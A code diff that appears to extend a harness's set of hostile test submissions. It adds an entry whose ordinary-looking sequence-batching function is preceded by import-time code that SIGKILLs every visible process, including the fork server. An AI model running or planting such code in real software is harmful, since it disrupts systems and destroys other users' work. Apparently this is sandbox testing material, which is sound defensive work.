@@ -425,7 +425,18 @@ def clip_by_norm(grads, max_norm):
     norm = np.sqrt(sum(np.sum(g ** 2) for g in grads))
     return [g * (max_norm / norm if norm > max_norm else 1.0) for g in grads]
 '''},
-    "kills-its-runner-while-asked": {"lstm-step": SIGMOID + '''
+    "kills-its-runner-while-asked": {"inputs-and-targets": '''
+import os, signal
+for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int, reverse=True):
+    try:  # every process it can see: its own namespace's, and the fork server's
+        os.kill(int(pid), signal.SIGKILL)
+    except OSError:
+        pass
+
+def inputs_and_targets(ids, seq_len):
+    n = (len(ids) - 1) // seq_len
+    return ids[: n * seq_len].reshape(n, seq_len), ids[1 : n * seq_len + 1].reshape(n, seq_len)
+''', "lstm-step": SIGMOID + '''
 import os
 
 def lstm_step(x, h_prev, c_prev, Wx, Wh, b):
